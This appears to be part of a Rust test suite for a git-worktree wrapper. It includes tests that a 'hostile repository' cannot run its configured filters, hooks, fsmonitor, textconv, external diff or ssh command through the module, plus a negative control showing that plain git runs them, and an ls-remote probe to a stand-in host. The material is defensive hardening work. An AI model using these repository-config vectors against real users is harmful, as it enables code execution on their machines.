        let there = plain(&r, &["cat-file", "-e", blob.trim()]);
        assert!(
            !there.status.success(),
            "the blob {blob} is in the repository"
        );
        assert_eq!(
            std::fs::read_dir(tmp.path().join("scratch"))
                .unwrap()
                .count(),
            0,
            "the scratch directory is left empty"
        );
    }

    /// A worktree's path swapped for a link to another worktree: removing it removes nothing
    /// (git resolved the link and removed the other one).
    #[tokio::test]
    async fn a_worktree_path_turned_into_a_link_removes_nothing() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let git = git();
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
        let (wt1, wt2) = (tmp.path().join("wt1"), tmp.path().join("wt2"));
        for (wt, b) in [(&wt1, "codex-bridge/l1"), (&wt2, "codex-bridge/l2")] {
            git.add_worktree(&repo, wt, b, &base).await.unwrap();
        }
        std::fs::write(wt2.join("work.txt"), "keep me\n").unwrap();
        let moved = tmp.path().join("wt1-moved");
        std::fs::rename(&wt1, &moved).unwrap();
        std::os::unix::fs::symlink(&wt2, &wt1).unwrap();
        let err = git
            .remove_worktree(&repo, &wt1, "codex-bridge/l1")
            .await
            .unwrap_err();
        assert!(err.to_string().contains("no longer a directory"), "{err}");
        assert_eq!(
            std::fs::read_to_string(wt2.join("work.txt")).unwrap(),
            "keep me\n"
        );
    }

    /// The seconds of a file's modification time.
    fn mtime_secs(path: &Path) -> u64 {
        let t = std::fs::metadata(path).unwrap().modified().unwrap();
        t.duration_since(std::time::UNIX_EPOCH).unwrap().as_secs()
    }

    /// A file edited in the second its worktree was checked out, at the same size, is a change
    /// (its stat data matches the index's; only the index file's own time tells git to read
    /// it): read a second later, the diff shows it and the apply lands it. With the scratch
    /// index dated when copied, the edit was missing from both (seen as a flake under load).
    #[tokio::test]
    async fn an_edit_in_the_checkouts_second_at_the_same_size_is_a_change() {
        let git = git();
        for _ in 0..10 {
            let tmp = tempfile::tempdir().unwrap();
            let r = repo(tmp.path());
            let repo = git.discover("cwd", &r).await.unwrap();
            let base = git.resolve_commit("base", &repo, "HEAD").await.unwrap();
            // start at the beginning of a second, so that checkout and edit share it
            let now = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap();
            tokio::time::sleep(std::time::Duration::from_nanos(
                1_000_000_000 - u64::from(now.subsec_nanos()),
            ))
            .await;
            let wt = tmp.path().join("wt");
            git.add_worktree(&repo, &wt, "codex-bridge/racy", &base)
                .await
                .unwrap();
            std::fs::write(wt.join("a.txt"), "one\nTWO\nthree\n").unwrap();
            let index = wt.join(".git");
            let gitdir = std::fs::read_to_string(&index).unwrap();
            let index = PathBuf::from(gitdir.trim().trim_start_matches("gitdir: ")).join("index");
            if mtime_secs(&wt.join("a.txt")) != mtime_secs(&index) {
                continue; // the second turned between checkout and edit: again
            }
            tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
            let changes = git.changes(&repo, &wt, &base).await.unwrap();
            let paths: Vec<&str> = changes.files.iter().map(|f| f.path.as_str()).collect();
            assert_eq!(paths, ["a.txt"], "{changes:?}");
            assert!(matches!(
                git.apply(&repo, &base, &changes).await.unwrap(),
                Applied::Landed(_)
            ));
            assert_eq!(
                std::fs::read_to_string(r.join("a.txt")).unwrap(),
                "one\nTWO\nthree\n"
            );
            return;
        }
        panic!("the checkout and the edit never shared a second in 10 tries");
    }

    #[tokio::test]
    async fn a_hostile_repository_runs_none_of_its_programs_through_this_module() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let marks = tmp.path().join("marks");
        make_hostile(&r, &marks);
        let git = git();
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "HEAD").await.unwrap();
        let wt = tmp.path().join("wt");
        git.add_worktree(&repo, &wt, "codex-bridge/s1", &base)
            .await
            .unwrap();
        assert_eq!(std::fs::read_to_string(wt.join("c.md")).unwrap(), "see\n");
        edit(&wt);
        std::fs::write(wt.join("c.md"), "sea\n").unwrap();
        std::fs::write(wt.join("e.br"), "branch2\n").unwrap();
        let changes = git.changes(&repo, &wt, &base).await.unwrap();
        assert_eq!(changes.files.len(), 6, "{changes:?}");
        // the checkout's files stat-dirty: a plain diff would run the clean filter on them
        std::fs::write(r.join("d.odd"), "odd\n").unwrap();
        let applied = git.apply(&repo, &base, &changes).await.unwrap();
        assert!(matches!(applied, Applied::Landed(_)), "{applied:?}");
        // git's own network paths are pinned too (this module never fetches, but a pin that
        // keeps `core.sshCommand` from running holds whatever runs)
        let out = git
            .run(Call {
                what: "ls-remote",
                cwd: &r,
                args: ["ls-remote", "ssh://example.invalid/x"].map(os).into(),
                pins: &[],
                index: None,
                stdin: None,
                cap: LISTING_CAP,
            })
            .await
            .unwrap();
        assert_ne!(out.code, Some(0));
        assert_eq!(
            git.remove_worktree(&repo, &wt, "codex-bridge/s1")
                .await
                .unwrap(),
            Removed::Removed
        );
        assert_eq!(ran(&marks), Vec::<String>::new(), "programs ran");
    }

    /// The negative control: the same repository, git run the ordinary way, runs each of its
    /// programs (the pager and editor aside: git starts them only for a terminal or a commit
    /// message, which this module never asks for; the configured hook aside when git is older
    /// than 2.54, which knows none).
    #[tokio::test]
    async fn the_same_repository_runs_its_programs_under_plain_git() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let marks = tmp.path().join("marks");
        make_hostile(&r, &marks);
        let wt = tmp.path().join("wt");
        let wt_s = wt.display().to_string();
        plain(
            &r,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "codex-bridge/plain",
                &wt_s,
                "HEAD",
            ],
        );
        edit(&wt);
        std::fs::write(wt.join("c.md"), "sea\n").unwrap();
        std::fs::write(wt.join("d.odd"), "odd2\n").unwrap();
        std::fs::write(wt.join("e.br"), "branch2\n").unwrap();
        let patch = plain(&wt, &["diff", "--binary", "HEAD"]).stdout;
        plain(&wt, &["diff", "--no-ext-diff", "HEAD"]);
        plain(&wt, &["add", "-A"]);
        std::fs::write(tmp.path().join("p.diff"), &patch).unwrap();
        plain(
            &r,
            &["apply", &tmp.path().join("p.diff").display().to_string()],
        );
        plain(&r, &["ls-remote", "ssh://example.invalid/x"]);
        let seen = ran(&marks);
        let mut want = vec![
            "diff-external",
            "filter-clean",
            "filter-process",
            "filter-smudge",
            "fsmonitor",
            "hook-post-checkout",
            "hook-post-index-change",
            "hook-reference-transaction",
            "include-clean",
            "include-smudge",
            "odd-name-clean",
            "branch-clean",
            "branch-smudge",
            "ssh",
            "textconv",
        ];
        let version = plain_ok(&r, &["--version"]);
        if git_at_least(&version, 2, 54) {
            want.push("config-hook");
        }
        for w in want {
            assert!(
                seen.iter().any(|s| s == w),
                "{w} did not run under plain git: {seen:?}"
            );
        }
    }

    /// A file of [`Changes`] as a test compares it: path, status, lines.
    type Row<'a> = (&'a str, FileStatus, Option<(u64, u64)>);

    fn git_at_least(version: &str, major: u32, minor: u32) -> bool {
        let mut n = version
            .trim()
            .trim_start_matches("git version ")
            .split('.')
            .map(|p| p.parse::<u32>().unwrap_or(0));
        (n.next().unwrap_or(0), n.next().unwrap_or(0)) >= (major, minor)
    }

    #[tokio::test]
    async fn changes_show_tracked_untracked_deleted_and_binary_files_and_leave_the_index() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let git = git();
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "main").await.unwrap();
        let wt = tmp.path().join("wt");
        git.add_worktree(&repo, &wt, "codex-bridge/s2", &base)
            .await
            .unwrap();
        let before = plain_ok(&wt, &["status", "--porcelain"]);
        assert_eq!(before, "");
        assert!(git.changes(&repo, &wt, &base).await.unwrap().is_empty());
        edit(&wt);
        std::fs::write(wt.join(".gitignore"), "*.log\n").unwrap();
        std::fs::write(wt.join("build.log"), "ignored\n").unwrap();
        let index_before = plain_ok(&wt, &["ls-files", "--stage"]);
        let c = git.changes(&repo, &wt, &base).await.unwrap();
        let got: Vec<Row<'_>> = c
            .files
            .iter()
            .map(|f| (f.path.as_str(), f.status.clone(), f.lines))
            .collect();
        assert_eq!(
            got,
            vec![
                (".gitignore", FileStatus::Added, Some((1, 0))),
                ("a.txt", FileStatus::Modified, Some((1, 1))),
                ("b.txt", FileStatus::Deleted, Some((0, 1))),
                ("bin.dat", FileStatus::Modified, None),
                ("new.txt", FileStatus::Added, Some((1, 0))),
            ]
        );
        assert_eq!(c.per_file().len(), 5);
        assert!(c.per_file()[3].starts_with(b"diff --git a/bin.dat"));
        assert_eq!(plain_ok(&wt, &["ls-files", "--stage"]), index_before);
    }

    #[tokio::test]
    async fn apply_lands_all_or_nothing_and_names_each_conflicting_file() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let git = git();
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "HEAD").await.unwrap();
        let (w1, w2, w3) = (
            tmp.path().join("w1"),
            tmp.path().join("w2"),
            tmp.path().join("w3"),
        );
        for (w, b) in [(&w1, "b/1"), (&w2, "b/2"), (&w3, "b/3")] {
            git.add_worktree(&repo, w, b, &base).await.unwrap();
        }
        // w1 and w2 edit the same line; w2 also adds a file; w3 edits another file
        std::fs::write(w1.join("a.txt"), "one\nw1\nthree\n").unwrap();
        std::fs::write(w1.join("w1.txt"), "from w1\n").unwrap();
        std::fs::write(w2.join("a.txt"), "one\nw2\nthree\n").unwrap();
        std::fs::write(w2.join("w2.txt"), "from w2\n").unwrap();
        std::fs::write(w3.join("b.txt"), "bee3\n").unwrap();
        let c1 = git.changes(&repo, &w1, &base).await.unwrap();
        let c2 = git.changes(&repo, &w2, &base).await.unwrap();
        let c3 = git.changes(&repo, &w3, &base).await.unwrap();
        assert!(!git.is_applied(&repo, &c1).await.unwrap());
        assert_eq!(
            git.apply(&repo, &base, &c1).await.unwrap(),
            Applied::Landed(vec!["a.txt".into(), "w1.txt".into()])
        );
        assert!(git.is_applied(&repo, &c1).await.unwrap());
        assert!(!git.is_applied(&repo, &c2).await.unwrap());
        assert_eq!(
            std::fs::read_to_string(r.join("a.txt")).unwrap(),
            "one\nw1\nthree\n"
        );
        let snapshot = plain_ok(&r, &["status", "--porcelain"]);
        assert_eq!(
            git.apply(&repo, &base, &c2).await.unwrap(),
            Applied::Refused(vec!["a.txt".into()])
        );
        // nothing of it landed: w2.txt, which alone would apply, is not there
        assert!(!r.join("w2.txt").exists());
        assert_eq!(plain_ok(&r, &["status", "--porcelain"]), snapshot);
        assert_eq!(
            git.apply(&repo, &base, &c3).await.unwrap(),
            Applied::Landed(vec!["b.txt".into()])
        );
        // never committed, never staged
        assert_eq!(plain_ok(&r, &["rev-parse", "HEAD"]).trim(), base);
        assert_eq!(plain_ok(&r, &["diff", "--cached", "--name-only"]), "");
        // a file the checkout created since the base conflicts with a session's new file
        std::fs::write(w3.join("late.txt"), "session\n").unwrap();
        std::fs::write(r.join("late.txt"), "person\n").unwrap();
        let c3 = git.changes(&repo, &w3, &base).await.unwrap();
        assert_eq!(
            git.apply(&repo, &base, &c3).await.unwrap(),
            Applied::Refused(vec!["b.txt".into(), "late.txt".into()])
        );
    }

    #[tokio::test]
    async fn removing_a_worktree_removes_its_branch_and_one_gone_by_hand_is_said_so() {
        let tmp = tempfile::tempdir().unwrap();
        let r = repo(tmp.path());
        let git = git();
        let repo = git.discover("cwd", &r).await.unwrap();
        let base = git.resolve_commit("base", &repo, "HEAD").await.unwrap();
        let (w1, w2) = (tmp.path().join("w1"), tmp.path().join("w2"));
        git.add_worktree(&repo, &w1, "codex-bridge/a", &base)
            .await
            .unwrap();
        git.add_worktree(&repo, &w2, "codex-bridge/b", &base)
            .await
            .unwrap();
        std::fs::write(w1.join("new.txt"), "x\n").unwrap();
        assert_eq!(
            git.remove_worktree(&repo, &w1, "codex-bridge/a")
                .await
                .unwrap(),
            Removed::Removed
        );
        std::fs::remove_dir_all(&w2).unwrap();
        assert_eq!(
            git.remove_worktree(&repo, &w2, "codex-bridge/b")
                .await
                .unwrap(),
            Removed::WasGone
        );
        assert!(!w1.exists());
        let list = plain_ok(&r, &["worktree", "list", "--porcelain"]);
        assert_eq!(list.matches("worktree ").count(), 1, "{list}");
        assert_eq!(plain_ok(&r, &["branch", "--list", "codex-bridge/*"]), "");
    }

    #[tokio::test]
    async fn a_directory_outside_any_repository_is_refused_naming_the_field() {
        let tmp = tempfile::tempdir().unwrap();
        let err = git().discover("cwd", tmp.path()).await.unwrap_err();
        assert!(matches!(err, GitError::NotARepository { field: "cwd", .. }));
        assert!(err.to_string().starts_with("`cwd`: "), "{err}");
        let r = repo(tmp.path());
        let git = git();
        let repo = git.discover("cwd", &r.join(".")).await.unwrap();
        let err = git.resolve_commit("base", &repo, "nope").await.unwrap_err();
        assert!(err.to_string().starts_with("`base`: `nope`"), "{err}");
    }

    #[test]
    fn each_configured_filter_and_hook_is_pinned_off_whatever_its_name() {
        let pins = program_pins(
            b"filter.a.clean\0filter.a.smudge\0filter.o=d.d.clean\0hook.x.command\0core.x\0",
        );
        let keys: Vec<&str> = pins.iter().map(|(k, _)| k.as_str()).collect();
        assert_eq!(
            keys,
            vec![
                "filter.a.clean",
                "filter.a.smudge",
                "filter.a.process",
                "filter.a.required",
                "filter.o=d.d.clean",
                "filter.o=d.d.smudge",
                "filter.o=d.d.process",
                "filter.o=d.d.required",
                "hook.x.enabled",
                "hook.x.command",
            ]
        );
    }

    #[test]
    fn a_patch_is_cut_at_each_file() {
        let p = b"diff --git a/x b/x\n-a\n+b\ndiff --git a/y b/y\nGIT binary patch\nliteral 1\nIcmZq1\n";
        let parts = split_patch(p);
        assert_eq!(parts.len(), 2);
        assert!(parts[1].starts_with(b"diff --git a/y"));
        assert!(split_patch(b"").is_empty());
    }
}
